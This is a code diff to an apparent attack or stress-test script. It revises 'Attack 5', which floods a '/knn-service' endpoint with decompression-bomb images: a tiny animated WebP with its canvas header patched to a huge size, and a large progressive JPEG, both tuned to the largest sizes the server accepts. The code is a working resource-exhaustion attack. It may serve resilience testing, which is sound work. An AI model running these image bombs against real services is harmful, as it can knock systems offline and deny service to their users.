@@ -138,12 +138,13 @@ def slow_image_urls(url: str, end: float, size: int) -> None:
 
 def image_bombs(url: str, end: float, size: int) -> None:
     """Attack 5."""
-    bodies = [json.dumps({"image": base64.b64encode(image).decode()}).encode() for image in (animation(), scans())]
-    repeat(8, end, lambda i: post(f"{url}/knn-service", bodies[i % 2]))
+    images = (animation(8000), scans(), animation(5650), photograph())
+    bodies = [json.dumps({"image": base64.b64encode(image).decode()}).encode() for image in images]
+    repeat(8, end, lambda i: post(f"{url}/knn-service", bodies[i % len(bodies)]))
 
 
-def animation() -> bytes:
-    """An animated WebP of some hundred bytes with a canvas of 8000 by 8000 pixels."""
+def animation(side: int) -> bytes:
+    """An animated WebP of some hundred bytes with a square canvas; 5650 is the largest that the server accepts."""
     from PIL import Image
 
     data = io.BytesIO()
@@ -151,8 +152,17 @@ def animation() -> bytes:
     frames[0].save(data, "WEBP", save_all=True, append_images=frames[1:], lossless=True)
     content = bytearray(data.getvalue())
     canvas = content.index(b"VP8X") + 12
-    content[canvas : canvas + 6] = (7999).to_bytes(3, "little") * 2
+    content[canvas : canvas + 6] = (side - 1).to_bytes(3, "little") * 2
     return bytes(content)
+
+
+def photograph() -> bytes:
+    """A progressive JPEG of 8000 by 8000 pixels, the largest that the server accepts."""
+    from PIL import Image
+
+    data = io.BytesIO()
+    Image.new("RGB", (8000, 8000), "gray").save(data, "JPEG", progressive=True)
+    return data.getvalue()
 
 
 def scans() -> bytes:
